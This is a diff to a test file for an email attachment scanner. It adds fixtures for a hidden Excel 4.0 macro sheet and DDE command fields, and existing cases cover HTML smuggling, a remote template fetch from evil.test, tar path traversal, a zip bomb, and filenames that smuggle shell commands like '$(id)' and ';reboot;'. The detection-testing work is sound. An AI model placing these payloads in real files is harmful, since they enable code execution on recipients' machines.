@@ -206,9 +206,10 @@ def ole_file(tree: dict) -> bytes:
         start = e.get("start", 0xFFFFFFFE if e["type"] == 5 else 0)
         dir_bytes += name.ljust(64, b"\0") + struct.pack("<HBBIII", len(name), e["type"], 1, 0xFFFFFFFF, right, child)
         dir_bytes += b"\0" * 16 + struct.pack("<IQQIQ", 0, 0, 0, start, e.get("size", 0))
-    # Unused directory slots: empty entries with no siblings or children.
+    # Unused directory slots: empty 128-byte entries with no siblings or children.
     for _ in range(dir_sectors * 4 - len(entries)):
-        dir_bytes += b"\0" * 64 + struct.pack("<HBBIII", 0, 0, 0, 0xFFFFFFFF, 0xFFFFFFFF, 0xFFFFFFFF) + b"\0" * 52
+        dir_bytes += b"\0" * 64 + struct.pack("<HBBIII", 0, 0, 0, 0xFFFFFFFF, 0xFFFFFFFF, 0xFFFFFFFF) + b"\0" * 48
+    assert len(dir_bytes) == dir_sectors * 512
     body = struct.pack("<128I", *fat) + dir_bytes
     for idx in streams:
         body += entries[idx]["data"].ljust(((entries[idx]["size"] + 511) // 512) * 512, b"\0")
@@ -223,6 +224,23 @@ def macro_doc() -> bytes:
     })
 
 
+def biff8_workbook(sheets: list[tuple[int, int, str]]) -> bytes:
+    """An Excel 97-2003 workbook: a `Workbook` stream whose globals hold one BOUNDSHEET per (state, type,
+    name) (state 0 visible, 1 hidden, 2 very hidden; type 0 worksheet, 1 Excel 4.0 macro sheet), then one
+    empty substream per sheet."""
+    def rec(kind: int, body: bytes) -> bytes:
+        return struct.pack("<HH", kind, len(body)) + body
+
+    globals_ = rec(0x0809, struct.pack("<HHHHII", 0x0600, 0x0005, 0, 0, 0, 0))
+    for state, dt, name in sheets:
+        globals_ += rec(0x0085, struct.pack("<IBBBB", 0, state, dt, len(name), 0) + name.encode())
+    globals_ += rec(0x000A, b"")
+    for _, dt, _ in sheets:
+        globals_ += rec(0x0809, struct.pack("<HHHHII", 0x0600, 0x0040 if dt == 1 else 0x0010, 0, 0, 0, 0))
+        globals_ += rec(0x000A, b"")
+    return ole_file({"Workbook": globals_})
+
+
 def test_the_ole_fixtures_are_real_ole_and_olevba_sees_the_macros():
     import olefile
     from oletools.olevba import VBA_Parser
@@ -234,6 +252,16 @@ def test_the_ole_fixtures_are_real_ole_and_olevba_sees_the_macros():
     assert VBA_Parser("invoice.doc", data=doc).detect_vba_macros()
     clean = ole_file({"WordDocument": b"\xec\xa5" + b"\0" * 100, "1Table": b"\0" * 10})
     assert not VBA_Parser("letter.doc", data=clean).detect_vba_macros()
+    # oletools' BIFF reader (oledump's plugin_biff) sees the very hidden Excel 4.0 macro sheet.
+    from oletools.thirdparty.oledump.plugin_biff import cBIFF
+
+    stream = olefile.OleFileIO(xlm_xls()).openstream("Workbook").read()
+    sheets = "\n".join(cBIFF(name=["Workbook"], stream=stream, options="-o BOUNDSHEET").Analyze())
+    assert "Excel 4.0 macro sheet, very hidden" in sheets, sheets
+
+
+def xlm_xls() -> bytes:
+    return biff8_workbook([(0, 0, "Sheet1"), (2, 1, "Auto_Open1")])
 
 
 def test_content_findings_through_scan(gateway_factory, sink, tmp_path):
@@ -245,6 +273,11 @@ def test_content_findings_through_scan(gateway_factory, sink, tmp_path):
     pe[0x80:0x84] = b"PE\0\0"
     docm_ct = b'<Types><Override PartName="/word/document.xml" ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/></Types>'
     rels = b'<Relationships><Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="https://evil.test/t.dotm" TargetMode="External"/></Relationships>'
+    xlsm_ct = b'<Types><Override PartName="/xl/macrosheets/sheet1.xml" ContentType="application/vnd.ms-excel.macrosheet+xml"/></Types>'
+    dde_document = (b'<w:document xmlns:w="x"><w:body><w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>'
+                    b'<w:r><w:instrText xml:space="preserve"> DDEAUTO c:\\windows\\system32\\cmd.exe "/k calc.exe" </w:instrText></w:r>'
+                    b'<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p></w:body></w:document>')
+    dde_link = b'<externalLink><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>'
     tar_buf = io.BytesIO()
     with tarfile.open(fileobj=tar_buf, mode="w:gz") as t:
         info = tarfile.TarInfo("../../srv/x.jsp")
@@ -261,6 +294,11 @@ def test_content_findings_through_scan(gateway_factory, sink, tmp_path):
         "smuggling": ([("doc.html", b"<html><script>var b=new Blob([atob('TVqQ')]);var a=document.createElement('a');a.href=URL.createObjectURL(b);a.download='x.iso';a.click()</script></html>", "text/html")], {"HTML_SMUGGLING"}),
         "traversal": ([("logs.tgz", tar_buf.getvalue(), "application/gzip")], {"ARCHIVE_SUSPICIOUS_PATH"}),
         "bomb": ([("zeros.zip", zipped({"zeros.bin": b"\0" * (8 << 20)}), "application/zip")], {"ARCHIVE_BOMB"}),
+        "xlm_xls": ([("invoice.xls", xlm_xls(), "application/vnd.ms-excel")], {"OFFICE_XLM_MACRO"}),
+        "xlm_xlsm": ([("report.xlsm", zipped({"[Content_Types].xml": xlsm_ct, "xl/macrosheets/sheet1.xml": b"<xm:macrosheet/>"}), "application/octet-stream")], {"OFFICE_XLM_MACRO"}),
+        "dde_docx": ([("order.docx", zipped({"[Content_Types].xml": b"<Types/>", "word/document.xml": dde_document}), "application/octet-stream")], {"OFFICE_DDE"}),
+        "dde_xlsx": ([("prices.xlsx", zipped({"[Content_Types].xml": b"<Types/>", "xl/externalLinks/externalLink1.xml": dde_link}), "application/octet-stream")], {"OFFICE_DDE"}),
+        "dde_rtf": ([("letter.rtf", rb'{\rtf1\ansi{\field{\*\fldinst {\rtlch DDE}AUTO "C:\\Programs\\cmd.exe" "/c calc"}{\fldrslt}}}', "application/rtf")], {"OFFICE_DDE"}),
         "shell_names": ([("names.zip", zipped({"`touch /tmp/portcullis-x`.txt": b"a", "$(id).doc": b"b", ";reboot;.pdf": b"c"}), "application/zip")], set()),
     }
     for label, (attachments, want) in cases.items():
@@ -270,6 +308,8 @@ def test_content_findings_through_scan(gateway_factory, sink, tmp_path):
         assert want <= got, (label, want, got)
     assert not Path("/tmp/portcullis-x").exists()
     assert "ARCHIVE_BOMB" in symbols(scan(gw, tmp_path / "bomb.eml"))
+    xlm = [s for s in scan(gw, tmp_path / "xlm_xls.eml")["symbols"] if s["name"] == "OFFICE_XLM_MACRO"]
+    assert "'Auto_Open1' (very hidden)" in json.dumps(xlm), xlm
 
 
 @needs_clamd
